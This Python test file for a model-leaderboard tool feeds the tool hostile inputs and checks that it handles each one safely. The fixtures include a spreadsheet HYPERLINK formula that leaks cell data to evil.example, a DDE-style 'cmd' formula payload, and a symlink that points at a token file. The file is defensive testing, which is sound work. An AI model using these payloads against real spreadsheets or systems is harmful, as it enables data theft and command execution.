"""Hostile data from the model repository and from files on main, each with its attack.

Out-of-range scores, a formula for a license, a 20 MB chat template, and a symbolic link under
``docs/`` that points at a secret: each is the fixture of its test.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
from pathlib import Path

import pyarrow.parquet as pq
import pytest

from leaderboard.cli.main import main
from leaderboard.core.errors import LeaderboardError
from leaderboard.devtools.synthetic import make_repo
from leaderboard.hub.licenses import card_license
from leaderboard.queue.caps import FIELD_LIMIT, RESULT_LIMIT, cap_result
from leaderboard.site.data import SiteData
from leaderboard.site.hooks import build
from leaderboard.store import result_index
from leaderboard.store.repo import Repo

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'


def _result_of(root: Path, model: str) -> Path:
    return next((root / "results" / "org0" / model).glob("*.json"))


def _commit_result(file: Path, doc: dict) -> None:
    """Write a hostile result as the record job commits one: with its index entry."""
    file.write_text(json.dumps(doc), encoding="utf-8")
    root = file.parents[3]
    result_index.write_entry(Repo(root), file.relative_to(root).as_posix())


def _set_metric(file: Path, value: float) -> str:
    doc = json.loads(file.read_text("utf-8"))
    task_name, task = next(iter(doc["results"].items()))
    key = next(k for k in task if "," in k)
    task[key] = value
    _commit_result(file, doc)
    return f"{task_name!r} {key!r}"


# -- scores out of range ------------------------------------------------------------------------


@pytest.mark.parametrize("value", [1e308, 1e300, -5.0, 1.0000001])
def test_a_score_outside_its_range_skips_the_row_naming_file_and_key(
    tmp_path: Path, capsys, value: float
) -> None:
    root = make_repo(tmp_path / "repo", 3, features=False).root
    file = _result_of(root, "model-0")
    where = _set_metric(file, value)
    capsys.readouterr()
    assert main(["table", "--root", str(root)]) == 0
    captured = capsys.readouterr()
    rows = json.loads(captured.out)
    assert sorted(r["Model"] for r in rows) == ["org0/model-1", "org0/model-2"]
    rel = file.relative_to(root).as_posix()
    [warning] = captured.err.strip().splitlines()
    assert warning.startswith(f"warning: {rel}: skipped: ")
    assert f"{where} is {value!r}, outside the metric's range [0, 1]" in warning


# -- CSV injection and the license ---------------------------------------------------------------


def test_a_formula_in_a_cell_is_neutralised_in_the_csv_and_kept_exact_elsewhere(
    tmp_path: Path,
) -> None:
    root = make_repo(tmp_path / "repo", 2, features=False).root
    file = _result_of(root, "model-0")
    doc = json.loads(file.read_text("utf-8"))
    doc["provenance"]["hub"]["license"] = FORMULA
    doc["provenance"]["command"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    _commit_result(file, doc)
    data = SiteData.load(Repo(root))
    files = data.generated_files()
    rows = list(csv.DictReader(io.StringIO(files["data/contents.csv"].decode())))
    row = next(r for r in rows if r["Model"] == "org0/model-0")
    # A recorded license is a Hub id or "other (<name>)": a formula is no license at all.
    assert row["Hub License"] == ""
    assert row["Reproduce"].startswith("'@SUM")
    assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for v in r.values())
    as_json = json.loads(files["data/contents.json"])
    shown = next(r for r in as_json if r["Model"] == "org0/model-0")
    assert shown["Hub License"] is None and shown["Reproduce"] == doc["provenance"]["command"]
    table = pq.read_table(io.BytesIO(files["data/contents.parquet"])).to_pylist()
    assert next(r for r in table if r["Model"] == "org0/model-0")["Reproduce"].startswith("@SUM")


@pytest.mark.parametrize(
    ("license", "name", "link", "expected"),
    [
        ("apache-2.0", None, None, "apache-2.0"),
        (["mit", "apache-2.0"], None, None, "mit"),
        ("llama3.1", None, None, "llama3.1"),
        ("other", "qwen-research", "https://example.com/LICENSE", "other (qwen-research)"),
        ("other", "apache-2.0", "LICENSE", "other (apache-2.0)"),
        (FORMULA, None, None, None),
        ("other", FORMULA, "https://example.com/LICENSE", None),
        ("other", "qwen-research", None, None),
        ("other", None, None, None),
        ("Apache 2.0", None, None, None),
        (42, None, None, None),
    ],
)
def test_a_card_license_is_a_hub_id_or_other_with_a_name(license, name, link, expected) -> None:
    assert card_license(license, name, link) == expected


# -- unbounded data from the model repository ----------------------------------------------------


def test_a_20_mb_chat_template_moves_to_the_details_store_with_its_hash(tmp_path: Path) -> None:
    template = "{% for m in messages %}" + "x" * (20 * 1024 * 1024) + "{% endfor %}"
    document = {
        "results": {"demo": {"acc,none": 0.5}},
        "provenance": {"model": "acme/tiny"},
        "chat_template": template,
        "config": {"model_args": "pretrained=acme/tiny", "env": ["y" * (FIELD_LIMIT + 1)]},
        "task_configs": {f"t{i}": {"doc": "z" * 1000} for i in range(2000)},
    }
    capped, files = cap_result(document, tmp_path / "moved")
    text = json.dumps(capped)
    assert len(text.encode()) <= RESULT_LIMIT
    assert capped["results"] == document["results"] and capped["provenance"]["model"] == "acme/tiny"
    moved = capped["chat_template"]
    data = (tmp_path / "moved" / moved["moved_to_details"]).read_bytes()
    assert data == template.encode()
    assert moved == {
        "moved_to_details": moved["moved_to_details"],
        "bytes": len(data),
        "sha256": hashlib.sha256(data).hexdigest(),
    }
    assert capped["config"]["model_args"] == "pretrained=acme/tiny"
    assert "moved_to_details" in capped["config"]["env"][0]
    assert "moved_to_details" in capped["task_configs"]  # the largest section, moved whole
    assert len(files) == 3


# -- symbolic links under docs/ ----------------------------------------------------------------


def test_the_build_refuses_a_docs_link_that_points_outside_the_repository(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("the runner's token\n", encoding="utf-8")
    project = tmp_path / "project"
    (project / "docs").mkdir(parents=True)
    (project / "docs" / "index.md").write_text("# Home\n", encoding="utf-8")
    (project / "docs" / "inside.md").symlink_to(project / "docs" / "index.md")
    os.symlink(secret, project / "docs" / "x.md")
    (project / "mkdocs.yml").write_text("site_name: x\n", encoding="utf-8")
    data = make_repo(tmp_path / "data", 1, features=False).root
    with pytest.raises(LeaderboardError) as caught:
        build(data, tmp_path / "site", config_file=project / "mkdocs.yml")
    assert f"docs/x.md -> {secret}" in str(caught.value)
    assert "inside.md" not in str(caught.value)
    assert not (tmp_path / "site").exists()
